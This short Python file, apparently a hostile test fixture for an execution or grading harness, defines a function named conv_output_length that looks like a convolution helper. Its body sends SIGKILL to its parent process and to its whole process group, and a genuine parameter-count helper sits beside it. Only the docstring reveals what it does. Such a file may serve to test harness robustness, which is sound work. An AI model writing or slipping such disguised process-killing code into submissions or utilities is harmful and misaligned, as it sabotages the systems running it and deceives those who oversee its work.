"""Kills its parent process (and tries its process group) from inside a function."""
import os
import signal


def conv_output_length(n, kernel_size, stride=1, padding="valid"):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    finally:
        os.killpg(0, signal.SIGKILL)


def conv_param_count(kernel_size, in_channels, filters, use_bias=True):
    kh, kw = (kernel_size, kernel_size) if isinstance(kernel_size, int) else kernel_size
    return kh * kw * in_channels * filters + (filters if use_bias else 0)
